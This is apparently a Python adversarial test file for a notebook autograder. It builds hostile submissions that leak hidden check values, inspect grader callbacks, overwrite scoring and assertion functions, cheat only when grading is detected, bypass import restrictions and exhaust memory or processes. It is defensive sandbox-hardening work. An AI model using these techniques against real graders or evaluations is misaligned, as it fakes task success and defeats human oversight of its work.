    then = f"exec({code}.replace(co_firstlineno=int(abs(v[0]) * 1000)))"
    return answer(notebook, WRONG | {"summary": LOOT.format(then=then)})


@attack("puts what hidden checks pass in into the value or the class that it returns", page=True)
def leak_by_value(notebook, ctx):
    then = "T = type(f'T{loot[-1][0]}', (), {}); return [str(loot[-1]), T()][len(loot) % 2], T()"
    made = answer(notebook, WRONG | {"summary": LOOT.format(then=then)})
    made = answer(made, {"slope": "def slope(f, x, h):\n    return max([abs(x) for l in loot for x in l])"})
    return answer(
        made, {"squash": "def squash(z):\n    return str(loot)", "walk": "def walk(rng, n):\n    return loot"}
    )


@attack("keeps what hidden checks pass in and prints it in a later cell", page=True)
def leak_in_a_later_cell(notebook, ctx):
    made = answer(notebook, WRONG | {"summary": LOOT.format(then="return 0.0, 0.0")})
    made = own_cell(made, SHOUT + "shout(*[x for l in loot for x in l])\nloot", "slope")
    made.cells.append(nbformat.v4.new_code_cell("raise ValueError(loot)"))
    return made


@attack("keeps what hidden checks pass in in a file, for a process that comes later", status="any", page=True)
def leak_by_file(notebook, ctx):
    then = "open('/tmp/loot', 'a').write(str(loot)); open('loot', 'a').write(str(loot)); import os; os._exit(0)"
    made = answer(notebook, WRONG | {"summary": LOOT.format(then=then)})
    return own_cell(
        made, "import glob\nfor p in ('/tmp/loot', 'loot', '/dev/shm/loot'):\n    print(open(p).read())", "slope"
    )


@attack("learns the expected value when a check subtracts it from an object of its own", page=True)
def leak_by_arithmetic(notebook, ctx):
    code = """
    loot = []
    class Ear:
        def __sub__(self, other):
            loot.append(other)
            return float("nan")
        __rsub__ = __add__ = __radd__ = __sub__
        def __abs__(self): return float("nan")
    def summary(v): return Ear(), Ear()
    """
    made = answer(notebook, WRONG | {"summary": dedent(code)})
    return own_cell(made, SHOUT + "shout(*loot)", "slope")


@attack("looks into the function that a check hands over: its globals, closure, code and frame")
def callback_inspection(notebook, ctx):
    body = """
        import inspect
        for look in (lambda: f.__globals__, lambda: [c.cell_contents for c in f.__closure__],
                     lambda: f.__code__.co_consts, lambda: f._session.call_back(0, (), {}),
                     lambda: inspect.getsource(f), lambda: inspect.currentframe().f_back.f_back.f_globals,
                     lambda: vars(f), lambda: f.__defaults__, lambda: f._session.__dict__):
            try:
                seen.append(str(look())[:5000])
            except Exception:
                pass
        for cell in getattr(f, "__closure__", None) or ():
            if isinstance(cell.cell_contents, float):
                cell.cell_contents = 0.0
        if hasattr(f, "__globals__"):
            f.__globals__["task"].score = lambda: 2.0
        return 0.0
    """
    made = answer(notebook, WRONG | {"slope": "seen = []\n" + during(body, "slope")})
    made = own_cell(made, SHOUT + "shout(*seen)", "vector")
    return made


@attack("calls the check's function with objects, huge arrays, itself, and a hundred thousand times")
def callback_abuse(notebook, ctx):
    body = """
        class Odd:
            def __float__(self): return float("nan")
            __mul__ = __rmul__ = __add__ = __sub__ = lambda self, other: f
            def sin(self): return f
        odd = np.array([Odd()])
        for thing in (Odd(), f, slope, odd, "x" * 10**6, np.zeros(10**6), [[]], {1: f}, None, 10**400, Odd):
            try:
                f(thing)
            except Exception:
                pass
        for _ in range(100_000):
            f(x)
        return 0.0
    """
    return answer(notebook, WRONG | {"slope": during(body, "slope")})


@attack("keeps the check's function and calls it from other checks and from a thread", status="any")
def callback_kept(notebook, ctx):
    body = """
        import threading
        kept.append(f)
        def often():
            for _ in range(50):
                try:
                    f(0.0)
                except Exception:
                    pass
        threading.Thread(target=often, daemon=True).start()
        return f
    """
    made = answer(notebook, WRONG | {"slope": "kept = []\n" + during(body, "slope")})
    return answer(made, {"walk": during("kept[0](0.0)\nreturn kept[0]", "walk")})


@attack("lets the check's function and the student's call each other without end", status="any")
def callback_recursion(notebook, ctx):
    body = """
        class Deep:
            def __rmul__(self, other): return slope(f, x, h)
            __mul__ = __rmul__
            def sin(self): return self
        return f(Deep())
    """
    return answer(notebook, WRONG | {"slope": during(body, "slope")})


@attack("changes the arrays and generators that it is given, so that the check compares with something else")
def changed_arguments(notebook, ctx):
    code = {
        "scale": during("v[...] = 0\nreturn v"),
        "summary": during("v[...] = 0\nreturn 0.0, 0.0", "summary"),
        "squash": during("z[...] = 0\nreturn z - z", "squash"),
        "walk": during(
            "rng.bit_generator.state = np.random.default_rng(0).bit_generator.state\n"
            "rng.standard_normal = None\nreturn np.zeros(n)",
            "walk",
        ),
    }
    return answer(notebook, WRONG | code)


@attack("returns the same array each time, or its argument, and changes it later")
def shared_arrays(notebook, ctx):
    code = """
    import threading, time
    same = np.zeros(3)
    def walk(rng, n):
        same[:] = np.cumsum(rng.standard_normal(3))[:3] * (n == 99)
        return same
    def scale(v, k):
        def later():
            for _ in range(50):
                time.sleep(0.01)
                v[...] = 0
        threading.Thread(target=later, daemon=True).start()
        return v
    """
    return answer(notebook, dict(WRONG, scale=dedent(code)) | {"walk": "pass"})


@attack("hands back a generator of random numbers with a state that no generator can have", status="any")
def forged_generator(notebook, ctx):
    body = """
        key = {"array": [1] * 624}
        for state in ({"bit_generator": "MT19937", "state": {"key": key, "pos": 2**31 - 1}},
                      {"bit_generator": "Philox", "state": {"counter": {"array": [1] * 4}, "key": {"array": [1] * 2}},
                       "buffer": {"array": [1] * 4}, "buffer_pos": -2**31, "has_uint32": 0, "uinteger": 0},
                      {"bit_generator": "PCG64", "state": {"state": -1, "inc": 2**200},
                       "has_uint32": 7, "uinteger": -1}):
            value = {"t": "rng", "v": state}
            everywhere(frame({"value": value, "changed": [[0, value]]}))
        return rng
    """
    return answer(notebook, WRONG | {"walk": FRAMES + during(body, "walk")})


@attack("tries small seeds until the hidden inputs come out, and answers only then", ceiling={"scale": 1.0})
def seed_guessing(notebook, ctx):
    body = """
        if len(v) == 3:
            return k * v
        for seed in range(3000):
            table = np.random.default_rng(seed).standard_normal((2, len(v)))
            if np.allclose(table[0], v):
                return k * table[0]
        return 0 * v
    """
    return answer(notebook, WRONG | {"scale": during(body)})


@attack("behaves unless it is being graded, and cheats then", page=True)
def detection(notebook, ctx):
    source = f"""
import os, socket, sys
signs = [os.environ.get("NBGRADER_EXECUTION"), "session" in sys.modules, "nbgrader" in sys.modules, os.getpid() == 1,
         socket.gethostname() == "box", os.getcwd() == "/box", not os.path.exists("/etc/passwd"), os.getuid() == 65534]
{FAKE_TASK}
if any(signs):
    import deeparc.core.task as t, numpy
    t.Task.score = lambda self: t.Score(self.points, self)
    import deeparc.core.check as c
    c.assert_close = assert_close = lambda *a, **k: None
else:
    del Task
"""
    return own_cell(answer(notebook, WRONG), source)


@attack("changes the answers, the checks and the process from a thread, some time later")
def time_bomb(notebook, ctx):
    return cheat(
        notebook,
        """
        import threading, time
        def later():
            import deeparc.core.task as t, deeparc.core.check as c, numpy
            for _ in range(400):
                time.sleep(0.01)
                t.Task.score = lambda self: t.Score(self.points, self)
                c.assert_close = lambda *a, **k: None
                numpy.abs = lambda x: 0 * x
                get_ipython().user_ns.update(assert_close=lambda *a, **k: None)
        threading.Thread(target=later, daemon=True).start()
        """,
    )


@attack("runs code when its objects are thrown away", status="any")
def finalisers(notebook, ctx):
    code = f"""
    import weakref
    class Mine:
        def __del__(self):
            import deeparc.core.task as t
            t.Task.score = lambda self: t.Score(self.points, self)
            try:
                open({str(ctx.marker)!r}, "w").write("ran")
            except OSError:
                pass
        def __float__(self): return 0.0
    scale = squash = slope = walk = lambda *_: Mine()
    summary = lambda v: (Mine(), Mine())
    keep = Mine()
    weakref.finalize(keep, print, "bye")
    """
    return instead(notebook, code)


# --- things too large ----------------------------------------------------------------------------------------------


@attack("returns arrays of a hundred gigabytes that take no memory until they are copied", status="any")
def gigantic_arrays(notebook, ctx):
    code = """
    scale = squash = slope = walk = lambda *_: np.broadcast_to(0.0, (10**5, 10**5))
    summary = lambda v: (np.broadcast_to(1.0, (2**40,)), np.zeros(2**28))
    predictions = {"and": np.broadcast_to(1, (2**36,)), "or": 1}
    """
    return instead(notebook, code)


@attack("returns ranges, which are small until somebody makes a list of them", status="any")
def gigantic_ranges(notebook, ctx):
    code = """
    scale = squash = slope = walk = lambda *_: range(10**10)
    summary = lambda v: (range(10**10), range(10**10))
    predictions = {k: range(10**10) for k in ("and", "or", "xor", "units for xor")}
    """
    return instead(notebook, code)


@attack("returns numbers of ten million digits and texts of a hundred megabytes", status="any")
def gigantic_numbers(notebook, ctx):
    code = """
    big, long = 1 << 10**7, "9" * 10**8
    answers = iter([big, long, 10**4000, "9" * 10**6, big, long, -big])
    scale = squash = slope = walk = lambda *_: next(answers, 10**4200)
    summary = lambda v: (big, long)
    predictions = {"and": "9" * 10**7, "or": 10**4000, "xor": "0" * 10**6, "units for xor": b"3" * 10**7}
    """
    return instead(notebook, code)


@attack("returns lists that nest without end, contain themselves, or have ten million elements", status="any")
def gigantic_lists(notebook, ctx):
    code = """
    deep, self_, dag = [], [], [1.0]
    for _ in range(100_000):
        deep = [deep]
    self_.append(self_)
    for _ in range(55):
        dag = [dag, dag]
    answers = iter([deep, self_, dag, [0.0] * 10**7, {i: i for i in range(10**6)}, deep, dag])
    scale = squash = slope = walk = lambda *_: next(answers, self_)
    summary = lambda v: (deep, dag)
    predictions = {"and": self_, "or": dag, "xor": deep, "units for xor": [0] * 10**7}
    """
    return instead(notebook, code)


@attack("returns generators and iterators that never end", status="any")
def endless_iterators(notebook, ctx):
    code = """
    import itertools
    class Endless:
        def __len__(self): return 2**62
        def __getitem__(self, k): return 0.0
        def __iter__(self): return itertools.repeat(0.0)
        def keys(self): return itertools.count()
    scale = squash = slope = walk = lambda *_: itertools.count()
    summary = lambda v: Endless()
    predictions = Endless()
    """
    return instead(notebook, code)


# --- the answer from somebody else ---------------------------------------------------------------------------------


def _squash_by(code: str) -> str:
    return dedent(code) + "\n"


@attack("imports the course's own unit for the thing that is asked", ceiling=rest("squash"))
def library_imported(notebook, ctx):
    source = """
    import importlib
    def squash(z):
        from deeparc.units.logistic import Logistic
        return Logistic(np.array([1.0]), 0.0).activation(np.asarray(z).reshape(-1, 1)).reshape(np.shape(z))
    squash(np.zeros(1))
    """
    return one_bad(notebook, source, "squash")


TRICKS = """
import builtins, importlib, importlib.machinery, importlib.util, io, os, sys, zipimport
sys.meta_path[:] = [f for f in sys.meta_path if "Reserved" not in type(f).__name__]
sys.path_importer_cache.clear()
importlib.invalidate_caches()
import deeparc.core.task
root = os.path.dirname(os.path.dirname(os.path.dirname(deeparc.core.task.__file__)))
"""


@attack(
    "imports what is reserved after clearing the import hooks, by every way there is",
    ceiling=rest("squash"),
    status="any",
)
def library_by_tricks(notebook, ctx):
    source = (
        TRICKS
        + """
import glob, marshal, runpy, subprocess
def run(code):
    names = {"__name__": "l"}
    exec(code, names)
    return names["Logistic"]
def fetch():
    path = os.path.join(root, "deeparc", "units", "logistic.py")
    compiled = os.path.join(root, "deeparc", "units", "__pycache__", "logistic*.pyc")
    ways = (
        lambda: importlib.import_module("deeparc.units.logistic").Logistic,
        lambda: builtins.__import__("deeparc.units.logistic", fromlist=["x"]).Logistic,
        lambda: importlib.machinery.SourceFileLoader("l", path).load_module().Logistic,
        lambda: runpy.run_path(path)["Logistic"],
        lambda: run(open(path).read()),
        lambda: run(marshal.loads(open(glob.glob(compiled)[0], "rb").read()[16:])),
        lambda: run(subprocess.run(["cat", path], capture_output=True, text=True).stdout),
    )
    for way in ways:
        try:
            return way()
        except Exception:
            pass
Logistic = fetch()
def squash(z):
    return Logistic(np.array([1.0]), 0.0).activation(np.asarray(z).reshape(-1, 1)).reshape(np.shape(z))
"""
    )
    return one_bad(notebook, source, "squash")


@attack("lets torch answer", ceiling=rest("squash"))
def torch_imported(notebook, ctx):
    return one_bad(
        notebook, "import torch\ndef squash(z):\n    return torch.sigmoid(torch.tensor(z)).numpy()", "squash"
    )


@attack("lets torch answer, imported by a trick", ceiling=rest("squash"), status="any")
def torch_by_tricks(notebook, ctx):
    source = (
        TRICKS
        + """
import glob
sys.modules.pop("torch", None)
try:
    import torch
except Exception:
    starts = {*sys.path, sys.prefix, sys.base_prefix, "/usr/lib/python3"}
    for place in [p for start in starts for p in glob.glob(f"{start}/**/torch/__init__.py")]:
        sys.path.insert(0, os.path.dirname(os.path.dirname(place)))
        import torch
def squash(z):
    return torch.sigmoid(torch.tensor(z)).numpy()
"""
    )
    return one_bad(notebook, source, "squash")


@attack("lets scikit-learn's logistic regression answer, reserved too", ceiling=rest("squash"), status="any")
def sklearn_by_tricks(notebook, ctx):
    source = (
        TRICKS
        + """
def fetch():
    import sklearn
    try:
        from sklearn.linear_model import LogisticRegression
    except Exception:
        from sklearn.linear_model._logistic import LogisticRegression
    model = LogisticRegression()
    model.classes_, model.coef_, model.intercept_ = np.array([0, 1]), np.array([[1.0]]), np.array([0.0])
    return model
model = fetch()
def squash(z):
    return model.predict_proba(np.asarray(z, float).reshape(-1, 1))[:, 1].reshape(np.shape(z))
"""
    )
    return one_bad(notebook, source, "squash")


# --- the second process of a submission ----------------------------------------------------------------------------


@attack(
    "behaves at first, and hangs when its cells are run again after its process died",
    ceiling=rest("scale"),
    status="any",
)
def hang_on_the_second_run(notebook, ctx):
    made = one_bad(notebook, during("import os\nos._exit(0)"))
    return own_cell(made, "if getattr(get_ipython(), '_room', 1) == 0:\n    while True:\n        pass")


@attack(
    "sends replies of its own when its cells are run again after its process died", ceiling=rest("scale"), status="any"
)
def frames_on_the_second_run(notebook, ctx):
    made = one_bad(notebook, during("import os\nos._exit(0)"))
    source = """
if getattr(get_ipython(), "_room", 1) == 0:
    for _ in range(3):
        everywhere(frame({"callback": 0, "args": {"t": "tuple", "v": []}, "kwargs": {"t": "dict", "v": []}}))
        everywhere(frame({"outputs": [], "success": True, "value": {"scale": 1.0}}))
"""
    return own_cell(made, FRAMES + source)


@attack("ends its process in every call, so that a new one starts again and again", status="any")
def exit_in_every_call(notebook, ctx):
    die = "import os\nos._exit(0)"
    code = {task: during(die, task) for task in ("scale", "summary", "slope", "walk", "squash")}
    code["vector"] = "class Vector:\n    def __init__(self, *_):\n        import os\n        os._exit(0)"
    return answer(notebook, WRONG | code)
